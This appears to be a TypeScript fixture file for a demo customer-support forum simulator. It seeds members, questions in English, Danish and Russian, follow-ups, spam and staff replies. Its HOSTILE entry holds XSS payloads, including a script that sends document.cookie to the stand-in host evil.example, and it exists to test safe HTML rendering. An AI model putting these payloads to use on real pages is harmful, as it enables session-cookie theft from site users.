// electron/core/demo/simulator: what the demo forums' members write (seeded, deterministic).
export const MEMBERS = [
  { username: 'maria_k', name: 'Maria Kowalski' }, { username: 'jensen88', name: 'Lars Jensen' },
  { username: 'tomasz', name: 'Tomasz Nowak' }, { username: 'aiko.t', name: 'Aiko Tanaka' },
  { username: 'd_ivanova', name: 'Daria Ivanova' }, { username: 'sam_b', name: 'Sam Brooks' },
  { username: 'freja.h', name: 'Freja Holm' }, { username: 'oleg_p', name: 'Oleg Petrov' },
  { username: 'nina_r', name: 'Nina Rossi' }, { username: 'kwame', name: 'Kwame Mensah' },
  { username: 'lucia.g', name: 'Lucía García' }, { username: 'erik_s', name: 'Erik Sørensen' },
];

export const QUESTIONS: { title: string; raw: string; lang: string }[] = [
  { title: 'Card payment declined twice today', raw: 'My card was declined twice this morning even though the balance is fine. Is something wrong on your side?', lang: 'en' },
  { title: 'How do I export last month\'s statement?', raw: 'I need the statement for October as a PDF for my accountant. Where do I find the export?', lang: 'en' },
  { title: 'Game crashes on launch after the update', raw: 'Since patch 1.4.2 the game crashes right after the splash screen. Driver 551.23, Windows 11.', lang: 'en' },
  { title: 'Lost my save after switching PCs', raw: 'I moved to a new PC and my cloud save is gone. 140 hours of progress. Please help!', lang: 'en' },
  { title: 'Returnering af jakke', raw: 'Hej! Jeg vil gerne returnere en jakke, som er for lille. Hvordan gør jeg det, og hvem betaler fragten?', lang: 'da' },
  { title: 'Hvornår kommer vinterstøvlerne på lager?', raw: 'Jeg har ventet på størrelse 42 i tre uger. Ved I, hvornår de kommer igen?', lang: 'da' },
  { title: 'Не приходит код подтверждения', raw: 'Здравствуйте! Уже час не могу войти: код подтверждения по SMS не приходит. Что делать?', lang: 'ru' },
  { title: 'Sync with my watch stopped working', raw: 'The app stopped syncing sleep data from my watch two days ago. Reinstalling did not help.', lang: 'en' },
  { title: 'Can I delete all my health data?', raw: 'I want every bit of my data removed from your servers. How do I request that under GDPR?', lang: 'en' },
  { title: 'Feature request: dark mode for the web app', raw: 'The mobile app has dark mode but the web app does not. Any plans?', lang: 'en' },
  { title: 'Double charged for my subscription', raw: 'I see two charges of 9.99 for this month on my statement. Can you refund one?', lang: 'en' },
  { title: 'Multiplayer matchmaking takes forever', raw: 'Queue times in ranked are over 15 minutes in EU West tonight. Is there an outage?', lang: 'en' },
  { title: 'Telt med hul ved levering', raw: 'Mit nye telt havde et hul i bunden, da jeg pakkede det ud. Kan jeg få et nyt?', lang: 'da' },
  { title: 'Ошибка при оплате подписки', raw: 'При оплате подписки картой пишет «ошибка 402». Деньги списались, подписка не активна.', lang: 'ru' },
];

export const FOLLOW_UPS = [
  'Any update on this? It is still happening.',
  'I tried logging out and in again, same result.',
  'Here is a screenshot: <img src="https://images.example.net/screenshot-4411.png" alt="screenshot">',
  'Thanks, that worked! One more question though: does this also apply to my partner\'s account?',
  'Still waiting for an answer here…',
  'Tak for svaret, men det virker stadig ikke.',
  'Спасибо, но проблема осталась.',
];

export const SPAM = [
  { title: 'CHEAP GAME KEYS 90% OFF!!!', raw: 'Best prices on keys, visit cheap-keys-now.example and use code FORUM for extra 10%!!!' },
  { title: 'Earn $5000 a week from home', raw: 'I made $5000 last week working from home. DM me to learn how. Limited spots!' },
];

/** Hostile content, to show the console renders inbound HTML safely. */
export const HOSTILE = {
  title: 'Weird formatting in my post?',
  cooked: '<p>Why does my post look odd?</p><img src="x" onerror="alert(document.cookie)"><script>fetch("https://evil.example/steal?c="+document.cookie)</script><a href="javascript:alert(1)">click</a>',
  raw: 'Why does my post look odd?',
};

export const STAFF_REPLIES = [
  'Thanks for reaching out! We are looking into this and will get back to you shortly.',
  'Sorry about the trouble. Could you send us a private message with your account email so we can check?',
  'Good news: this is fixed in the latest version. Please update and let us know if it persists.',
];
